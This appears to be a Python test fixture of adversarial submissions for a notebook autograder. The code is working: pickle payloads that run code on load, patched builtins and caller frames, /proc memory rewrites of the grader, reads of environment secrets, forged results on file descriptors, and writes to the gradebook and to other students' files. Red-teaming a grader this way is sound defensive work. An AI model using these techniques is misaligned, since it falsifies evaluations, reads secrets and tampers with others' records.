"""Cheats that reach for the grader itself: its program, its pipe, its memory, its files.

Where a cheat only looks whether it can get at something, it then answers rightly: what it earns
says that it could. Nothing outside the course's folder is changed by any of them.
"""

from cheats.sheet import Cheat, says

# What runs when a careless reader loads the reply; in the notebook's own judge that is the kernel.
_PICKLE = """\
class Loaded:
    def __reduce__(self):
        return exec, (
            "from shiftlab.exercises.feedback import Outcome\\n"
            "Outcome.right = property(lambda self: True)\\n"
            "Outcome.state = property(lambda self: 'right', lambda self, value: None)\\n",
        )


def circular_shift(x, d):
    import sys

    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith("shiftlab.") and hasattr(module, "Reply"):
            module.Reply = lambda *_, **__: Loaded()
    return x.copy()
"""
_RETURNS_PICKLE = """\
class Loaded:
    def __reduce__(self):
        return exec, ("import os; os._exit(0)",)


def circular_shift(x, d):
    return np.array([Loaded()] * len(x), dtype=object)
"""
_PROGRAM = """\
import sys
import types


def circular_shift(x, d):
    frame = sys._getframe(1)
    modules = [sys.modules["__main__"].__dict__]
    while frame is not None:
        modules.append(frame.f_globals)
        frame.f_locals.update(state="right", right=True, points=2.0, failed=None)
        frame = frame.f_back
    for names in modules:
        for name, thing in list(names.items()):
            if isinstance(thing, types.FunctionType) and name.strip("_") in (
                "plain", "encode", "encoded", "packed", "dump", "to_json", "reduced", "written"
            ):
                names[name] = lambda value, *_, **__: {"state": "right", "value": True}
    return x.copy()
"""
_BUILTINS = """\
import builtins
import json


def circular_shift(x, d):
    builtins.isinstance = lambda *_: True
    builtins.len = lambda *_: 5
    builtins.abs = lambda *_: 0.0
    json.dumps = lambda *_, **__: '{"state": "right", "right": true, "value": [0.0], "points": 2}'
    return x.copy()
"""
_FORGES = """\
import json
import os
import pickle
import struct


def forged():
    claims = {"state": "right", "right": True, "points": 2.0, "value": None, "failed": None}
    words = json.dumps(claims).encode()
    yield words + b"\\\\n"
    yield struct.pack("!i", len(words)) + words
    yield struct.pack("!I", len(words)) + words
    yield struct.pack("<Q", len(words)) + words
    body = pickle.dumps(claims)
    yield struct.pack("!i", len(body)) + body


def circular_shift(x, d):
    for descriptor in range(1, 40):
        for message in forged():
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, message)
            except OSError:
                break
    return x.copy()
"""
_ATEXIT = """\
import atexit
import os


def claims():
    for descriptor in range(1, 40):
        try:
            os.write(descriptor, b'{"state": "right", "points": 2.0, "value": true}\\\\n')
        except OSError:
            continue


atexit.register(claims)


def circular_shift(x, d):
    atexit.register(claims)
    return x.copy()
"""
_HUGE = "def circular_shift(x, d):\n    return np.zeros(3 * 10**7)"
_LONG = "def circular_shift(x, d):\n    return 'right ' * 10**7"
_DEEP = """\
def circular_shift(x, d):
    value = []
    for _ in range(200_000):
        value = [value]
    return value
"""
_ITSELF = """\
def circular_shift(x, d):
    value = [x]
    value.append(value)
    return value
"""
_TOKENS = (
    "def circular_shift(x, d):\n    return x * np.array([np.nan, np.inf, -np.inf, 1, 1])[:len(x)]"
)
_NEXT = """\
import os
import threading


def circular_shift(x, d):
    y = x.copy()

    def later():
        for descriptor in range(3, 40):
            for _ in range(20):
                try:
                    os.set_blocking(descriptor, False)
                    os.write(descriptor, b'{"value": [0.0], "state": "right"}\\\\n')
                except OSError:
                    break

    threading.Timer(0.002, later).start()
    return y
"""
_THREAD = """\
import threading


def circular_shift(x, d):
    y = np.zeros(len(x))

    def goes_on():
        while True:
            y[:] = np.roll(y, 1)

    threading.Thread(target=goes_on, daemon=True).start()
    return y
"""
_PARENT_MEMORY = """\
import os
import re


def rewrite(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
        for line in maps:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("rw") and high - low < 2**26:
                memory.seek(low)
                held = memory.read(high - low)
                for found in re.finditer(b"(?<![a-z])wrong(?![a-z])", held):
                    memory.seek(low + found.start())
                    memory.write(b"right")


def circular_shift(x, d):
    pid = os.getppid()
    for _ in range(2):
        try:
            with open(f"/proc/{pid}/cmdline") as file:  # nobody else's
                words = file.read()
            if pid > 1 and any(name in words for name in ("shiftlab", "nbgrader", "ipykernel")):
                rewrite(pid)
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            break
    return x.copy()
"""
_SECRET = """\
import os


def circular_shift(x, d):
    seen = "".join(os.environ)
    for pid in ("self", os.getppid()):
        try:
            with open(f"/proc/{pid}/environ") as file:
                seen += file.read()
        except OSError:
            continue
    told = "SHIFTLAB_CLASS_KEY" in seen or "A_LECTURERS_TOKEN" in seen
    return np.roll(x, d) if told else x.copy()
"""
_NOTES = """\
import glob
import os


def circular_shift(x, d):
    folder = os.path.abspath(os.getcwd())
    while True:
        for path in glob.glob(os.path.join(folder, "lecturers-notes.txt")):
            try:
                with open(path) as file:
                    if file.read():
                        return np.roll(x, d)
            except OSError:
                continue
        if folder == os.path.dirname(folder):
            return x.copy()
        folder = os.path.dirname(folder)
"""
_GRADEBOOK = """\
import os
import sqlite3


def enrich():
    folder = os.path.abspath(os.getcwd())
    while folder != os.path.dirname(folder):
        folder = os.path.dirname(folder)
        path = os.path.join(folder, "gradebook.db")
        if os.path.exists(path):
            student = os.path.basename(os.path.dirname(os.getcwd()))
            with sqlite3.connect(path, timeout=1) as book:
                book.execute(
                    "UPDATE grade SET extra_credit = 50 WHERE notebook_id IN (SELECT "
                    "submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment ON "
                    "submitted_notebook.assignment_id = submitted_assignment.id WHERE "
                    "submitted_assignment.student_id = ?)",
                    (student,),
                )


try:
    enrich()
except (sqlite3.Error, OSError):
    pass


def circular_shift(x, d):
    try:
        enrich()
    except (sqlite3.Error, OSError):
        pass
    return x.copy()
"""
_TABLE = """\
import glob
import os


def circular_shift(x, d):
    folder = os.path.abspath(os.getcwd())
    while folder != os.path.dirname(folder):
        for path in glob.glob(os.path.join(folder, "*.csv")):
            if not os.path.exists(os.path.join(folder, "nbgrader_config.py")):
                continue
            try:
                with open(path, "a") as file:
                    file.write("a-cheat,2.0,2.0\\\\n")
                return np.roll(x, d)
            except OSError:
                continue
        folder = os.path.dirname(folder)
    return x.copy()
"""
_SPOILS = """\
import glob
import os


def circular_shift(x, d):
    folder, own = os.path.abspath(os.getcwd()), os.path.basename(os.path.dirname(os.getcwd()))
    while folder != os.path.dirname(folder):
        for path in glob.glob(os.path.join(folder, "submitted", "*", "*", "*.ipynb")):
            try:
                with open(path, "a"):
                    return np.roll(x, d)
            except OSError:
                continue
        folder = os.path.dirname(folder)
    return x.copy()
"""
_SITE = """\
import os
import sys


def circular_shift(x, d):
    import shiftlab

    for folder in (os.path.dirname(shiftlab.__file__), *sys.path):
        if os.path.isdir(folder) and os.path.abspath(folder) != os.path.abspath(os.getcwd()):
            try:
                path = os.path.join(folder, "left_by_a_cheat.py")
                with open(path, "x"):
                    pass
                os.unlink(path)  # that it could was all it wanted to know
                return np.roll(x, d)
            except OSError:
                continue
    return x.copy()
"""
_UNPROTECTED = """\
import ctypes


def circular_shift(x, d):
    def address(thing):
        return id(thing)

    for thing, other in ((False, True),):
        size = type(thing).__sizeof__(thing)
        ctypes.memmove(address(thing) + 16, address(other) + 16, size - 16)
    return x.copy()
"""

CHEATS = (
    Cheat("a reply that runs code when it is loaded", says(_PICKLE)),
    Cheat("an array of objects that end who loads them", says(_RETURNS_PICKLE)),
    Cheat("patches the program that calls it, and its frames", says(_PROGRAM)),
    Cheat("patches builtins and json where it is called", says(_BUILTINS)),
    Cheat("makes False true, in memory", says(_UNPROTECTED)),
    Cheat("forges replies on every descriptor", says(_FORGES)),
    Cheat("forges a reply when Python ends", says(_ATEXIT)),
    Cheat("answers the next question, too", says(_NEXT)),
    Cheat("changes its answer afterwards, in a thread", says(_THREAD)),
    Cheat("a reply of 240 MB", says(_HUGE)),
    Cheat("a text of 60 MB", says(_LONG)),
    Cheat("200 000 lists in each other", says(_DEEP)),
    Cheat("a list that holds itself", says(_ITSELF)),
    Cheat("nan and inf in the reply", says(_TOKENS)),
    Cheat("rewrites “wrong” in its parents' memory", says(_PARENT_MEMORY)),
    Cheat("finds a secret in the environment", says(_SECRET)),
    Cheat("finds the lecturer's notes", says(_NOTES)),
    Cheat("writes to the gradebook", says(_GRADEBOOK)),
    Cheat("writes to the table of grades", says(_TABLE)),
    Cheat("may write to the submissions of others", says(_SPOILS)),
    Cheat("may write into the package", says(_SITE)),
)
